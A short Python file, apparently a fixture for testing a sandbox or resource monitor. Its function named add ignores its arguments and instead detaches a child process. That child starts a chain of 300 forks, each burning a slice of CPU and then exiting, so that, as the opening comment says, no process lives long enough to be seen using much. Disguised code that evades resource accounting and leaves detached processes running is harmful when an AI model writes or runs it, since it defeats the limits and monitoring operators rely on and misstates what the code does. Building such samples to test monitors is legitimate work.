# Each process hands on to a child and ends unwaited: none lives long enough to be seen using much.
import os
import signal
import time


def hand_on(count):
    while count:
        end = time.process_time() + 0.03
        while time.process_time() < end:
            pass
        if os.fork():
            os._exit(0)
        count -= 1
    os._exit(0)


def add(x, y):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()
        hand_on(300)
    time.sleep(20)
